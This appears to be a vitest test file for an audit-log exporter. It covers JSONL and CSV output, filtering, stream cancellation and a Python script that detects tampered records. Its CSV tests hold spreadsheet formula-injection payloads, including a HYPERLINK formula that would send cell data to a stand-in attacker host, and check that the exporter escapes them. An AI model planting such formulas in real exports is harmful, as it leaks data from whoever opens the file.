import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { change, recordedWorld, tamper } from '../../test/audit-world.ts';
import { storeCalls } from '../../test/call-record.ts';
import { testDatabase } from '../../test/database.ts';
import { sql } from 'kysely';
import { csvCell, exportAudit, exportCalls } from './export.ts';
import { writeAudit } from './store.ts';

const lines = (text: string) => text.trimEnd().split(/\r?\n/);

test('every record of a change is exported, in the order of the chain', async () => {
  const { db } = await recordedWorld(1_203);
  const text = await exportAudit(db, 'jsonl', {}).text();
  const rows = lines(text).map((line) => JSON.parse(line));
  expect(rows.map(({ chain }) => chain.seq)).toEqual(Array.from({ length: 1_203 }, (_, at) => at + 1));
  expect(rows[0]).toMatchObject({
    actor: 'alice@acme.com',
    before: { name: 'a' },
    chain: { before: '{"name": "a"}' },
  });
});

test('every record of a request is exported, oldest first, with the filters of the list', async () => {
  const { db } = await testDatabase();
  const at = Date.UTC(2026, 10, 20);
  await storeCalls(
    db,
    ...Array.from({ length: 1_100 }, (_, n) => ({ at: at + (n % 7) * 1_000, requestId: `r-${n}` })),
  );
  await storeCalls(db, { at, server: 'other' });
  const rows = lines(await exportCalls(db, 'jsonl', { server: 'github' }).text()).map((line) =>
    JSON.parse(line),
  );
  expect(new Set(rows.map(({ requestId }) => requestId)).size).toBe(1_100);
  const times = rows.map(({ timestamp }) => Date.parse(timestamp));
  expect(times).toEqual(times.toSorted((a, b) => a - b));
});

test('CSV has a head, quotes what must be quoted, and starts no formula', async () => {
  const { db } = await testDatabase();
  await writeAudit(
    db,
    change({ actor: '=HYPERLINK("https://evil.example.com?"&A1)', targetId: 'a,"b"\nc', before: null }),
  );
  const text = await exportAudit(db, 'csv', {}).text();
  expect(lines(text)[0]).toBe(
    'id,timestamp,actor,action,targetKind,targetId,tenant,before,after,requestId,clientIp,seq,hash',
  );
  expect(text).toContain(
    `"'=HYPERLINK(""https://evil.example.com?""&A1)",group.update,group,"a,""b""\nc",acme,,`,
  );
});

test.each([
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1', ' =1', '|cmd', '%0a', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...['\u00a0=1', '\u200b=1', '\ufeff=1', '"=1'],
])('a cell that begins like %j begins with an apostrophe', (text) => {
  expect(shown(text)).toBe(`'${text}`);
});

test.each([
  [
    'Mozilla/5.0;=HYPERLINK("https://evil.example.com?"&A1)',
    'Mozilla/5.0;\'=HYPERLINK("https://evil.example.com?"&A1)',
  ],
  ['x\t=1', "x\t'=1"],
  ['x\n@SUM(A1)', "x\n'@SUM(A1)"],
  ['x; "=1', 'x;\' "=1'],
  ['x;;＝1', "x;;'＝1"],
  ['\t=1', "'\t'=1"],
])('where %j begins a cell for others, an apostrophe stands before it', (text, expected) => {
  expect(shown(text)).toBe(expected);
});

test('text without formulas stays as it is', () => {
  for (const text of ['Mozilla/5.0 (X11; Linux)', 'a=b', 'a-b; c', '']) expect(shown(text)).toBe(text);
});

/** What a reader makes of a cell. */
function shown(text: string): string {
  return csvCell(text).replace(/^"(.*)"$/s, (_, inside: string) => inside.replaceAll('""', '"'));
}

test('numbers stay numbers, also below zero', () => {
  expect([csvCell(-1.5), csvCell(0), csvCell(true), csvCell(null), csvCell({ a: 1 })]).toEqual([
    ...['-1.5', '0', 'true', '', '"{""a"":1}"'],
  ]);
});

test('who stops reading an export stops the reading of the database', async () => {
  const { db } = await recordedWorld(600);
  const reader = exportAudit(db, 'jsonl', {}).body!.getReader();
  await reader.read();
  await reader.cancel();
  await expect(reader.closed).resolves.toBeUndefined();
});

describe('the script in docs/audit.md', () => {
  const script =
    /```python\n(.*?)```/s.exec(readFileSync(new URL('../../docs/audit.md', import.meta.url), 'utf8'))?.[1] ??
    '';
  const run = (input: string) => spawnSync('python3', ['-c', script], { input, encoding: 'utf8' });
  const hasPython = spawnSync('python3', ['--version']).status === 0;

  test.runIf(hasPython)('verifies an export without this program', async () => {
    const { db } = await recordedWorld(20);
    await writeAudit(
      db,
      change({ before: { 'ключ "\\': ['\u2028\u0001\u007f\t🎉', 1e21, -0.5] }, tenant: null }),
    );
    const exported = await exportAudit(db, 'jsonl', {}).text();
    expect(run(exported)).toMatchObject({ status: 0, stdout: expect.stringContaining('21 records') });
    await tamper(db, sql`update mcp_proxy.audit_log set actor = 'mallory' where id = 7`);
    const changed = run(await exportAudit(db, 'jsonl', {}).text());
    expect(changed).toMatchObject({ status: 1, stdout: expect.stringContaining('record 7') });
    const shorter = lines(exported).toSpliced(4, 1).join('\n');
    expect(run(shorter)).toMatchObject({ status: 1, stdout: expect.stringContaining('place 6') });
  });
});
